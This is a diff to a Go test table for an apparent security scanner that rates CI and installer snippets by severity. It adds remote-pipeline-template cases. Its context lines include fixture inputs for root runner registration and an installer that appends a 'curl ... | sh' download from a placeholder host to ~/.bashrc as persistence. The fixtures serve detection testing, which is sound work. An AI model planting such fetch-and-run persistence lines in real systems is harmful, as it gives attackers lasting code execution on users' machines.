@@ -24,6 +24,12 @@ func TestSeverityByContext(t *testing.T) {
 		{"script names its repository", "ci/gpu.sh", "export RUNNER_ALLOW_RUNASROOT=1\n./config.sh --url https://github.com/x/y --token \"$T\"", 1, "high runner-register"},
 		{"sudo with the variable", "ci/gpu.sh", "sudo RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://github.com/x/y --token \"$T\"", 1, "high runner-register"},
 		{"registration in a workflow", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./config.sh --url \"$U\" --token \"$T\"", 6, "high runner-register"},
+		// Pipeline configuration from elsewhere that cannot move under the
+		// review, or comes from a well-known owner, is read, not feared.
+		{"azure template at a tag", "azure-pipelines.yml", "resources:\n  repositories:\n    - repository: shared\n      type: github\n      name: someone/pipeline-templates\n      ref: refs/tags/v2.1.0", 5, "medium ci-remote-config"},
+		{"azure template of a well-known owner", "azure-pipelines.yml", "resources:\n  repositories:\n    - repository: eng\n      type: github\n      name: microsoft/vscode-engineering\n      ref: main", 5, "medium ci-remote-config"},
+		{"gitlab remote include at a commit", ".gitlab-ci.yml", "include:\n  - remote: https://gitlab.com/someone/ci/-/raw/0123456789abcdef0123456789abcdef01234567/python.yml", 2, "medium ci-remote-config"},
+		{"jenkins library at a tag", "Jenkinsfile", "library identifier: 'ci@v1.4.0', retriever: modernSCM([$class: 'GitSCMSource', remote: 'https://github.com/someone/pipeline-lib.git'])", 1, "medium ci-remote-config"},
 		// An installer writes the profile; what it writes decides.
 		{"installer adds to PATH", "install.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> \"$HOME/.bashrc\"", 1, "medium persistence"},
 		{"installer adds a download", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.bashrc\"", 1, "high persistence"},
